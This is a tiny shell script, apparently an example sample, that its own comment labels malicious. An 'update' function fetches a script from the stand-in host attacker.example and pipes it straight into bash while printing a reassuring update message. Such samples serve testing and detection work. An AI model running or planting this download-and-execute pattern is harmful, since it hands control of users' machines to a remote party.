# Malicious, obfuscated: an innocent-looking update() function whose body is curl | bash.
update() {
  local url="http://attacker.example/u.sh"
  curl -s "$url" | bash
}
echo "checking for updates"
update
